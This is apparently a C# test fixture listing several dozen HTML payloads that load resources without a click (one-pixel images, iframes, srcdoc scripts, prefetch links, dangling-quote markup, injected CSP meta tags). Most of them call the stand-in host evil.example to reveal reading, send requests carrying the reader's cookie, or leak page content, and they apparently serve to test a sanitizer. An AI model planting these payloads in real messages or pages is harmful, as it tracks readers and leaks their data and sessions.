namespace Dashboard.Testing;

/// <summary>Loads without a click: they tell the sender who reads the message and when, or act with the reader's cookie.</summary>
internal static class LoadBodies
{
    public static IReadOnlyList<(string Name, string Why, string Html)> All { get; } =
    [
        ("picture of one pixel", "tells that the message was read", "<img src=https://evil.example/stolen.gif width=1 height=1>"),
        ("picture of the portal's own", "a request with the reader's cookie", "<img src=/export/csv?stolen>"),
        ("picture set", "another attribute", "<img srcset='https://evil.example/stolen.png 1x, /stolen.png 2x'>"),
        ("picture with sources", "another element", "<picture><source srcset=https://evil.example/stolen.png><img src=/stolen.png></picture>"),
        ("picture that waits", "loads when it comes into view", "<img loading=lazy src=https://evil.example/stolen.png><img loading=eager fetchpriority=high src=/stolen.png>"),
        ("picture for a measure", "reports to a third party", "<img attributionsrc=https://evil.example/stolen src=data:,x>"),
        ("film", "a poster and a source", "<video poster=https://evil.example/stolen.png src=https://evil.example/stolen.mp4 autoplay muted></video>"),
        ("sound", "and one to hear", "<audio src=/stolen.mp3 autoplay></audio><audio preload=auto><source src=https://evil.example/stolen.mp3></audio>"),
        ("subtitles", "a track loads too", "<video><track default src=https://evil.example/stolen.vtt></video><bgsound src=/stolen.wav>"),
        ("frame", "a page in the page", "<iframe src=https://evil.example/stolen></iframe>"),
        ("frame of the portal's own", "a page of the portal under foreign words", "<iframe src=/settings/connections?stolen></iframe>"),
        ("frame with its own document", "a document in an attribute", "<iframe srcdoc='<script>parent.canary();top.canary()</script><img src=https://evil.example/stolen.png>'></iframe>"),
        ("frame that opens its own walls", "asks for what the outer frame has not", "<iframe sandbox='allow-scripts allow-same-origin allow-top-navigation' srcdoc='<script>top.canary()</script>'></iframe>"),
        ("frame set", "frames of old", "<frameset cols=*><frame src=https://evil.example/stolen></frameset>"),
        ("object", "a plug-in's place", "<object data=https://evil.example/stolen.swf></object><object data=/stolen type=text/html></object>"),
        ("embed", "another", "<embed src=https://evil.example/stolen><embed src=/stolen type=text/html>"),
        ("applet", "one of old", "<applet code=x archive=https://evil.example/stolen.jar codebase=/stolen></applet>"),
        ("portal", "a page that may become the page", "<portal src=https://evil.example/stolen></portal><fencedframe src=https://evil.example/stolen></fencedframe>"),
        ("prefetch", "loads for later", "<link rel=prefetch href=https://evil.example/stolen><link rel=prerender href=/stolen>"),
        ("preload", "loads for soon", "<link rel=preload as=image href=/stolen.png><link rel=modulepreload href=/stolen.js>"),
        ("name look-up", "a question for a name tells as much", "<link rel=dns-prefetch href=//evil.example><link rel=preconnect href=https://evil.example>"),
        ("icon and manifest", "loads for the tab", "<link rel=icon href=https://evil.example/stolen.ico><link rel=manifest href=/stolen.json>"),
        ("import of a page", "a link of old", "<link rel=import href=https://evil.example/stolen.html>"),
        ("ping", "a click tells somebody else", "<a href=https://vendor.example ping=https://evil.example/stolen>x</a>"),
        ("referrer", "tells where the reader comes from", "<a href=https://vendor.example referrerpolicy=unsafe-url attributionsrc=https://evil.example/stolen>x</a>"),
        ("cited addresses", "an address that a tool may follow", "<blockquote cite=https://evil.example/stolen>x</blockquote><q cite=https://evil.example/stolen>x</q><del cite=https://evil.example/stolen>x</del>"),
        ("dangling quote", "the rest of the page becomes part of an address", "<img src='https://evil.example/stolen?rest="),
        ("dangling base target", "the rest of the page becomes a window's name", "<a href=https://evil.example/stolen><b>Click</b></a><base target='"),
        ("policy of its own", "asks for looser rules", "<meta http-equiv=Content-Security-Policy content=\"default-src *; script-src * 'unsafe-inline'\"><img src=https://evil.example/stolen.png onerror=canary()>"),
        ("reports", "a policy that reports to its sender", "<meta http-equiv=Content-Security-Policy-Report-Only content=\"default-src 'none'; report-uri https://evil.example/stolen\"><img src=/stolen.png>"),
        ("frame without credentials", "a frame that asks as nobody", "<iframe credentialless allow='*' csp='script-src *' src=https://evil.example/stolen srcdoc='<img src=/stolen.png>'></iframe>"),
        ("hints of the browser", "asks the browser to tell others what it is", "<meta http-equiv=delegate-ch content='sec-ch-ua-model https://evil.example'><meta http-equiv=accept-ch content=sec-ch-ua-model><meta http-equiv=x-dns-prefetch-control content=on><a href=https://evil.example/stolen>x</a>"),
    ];
}
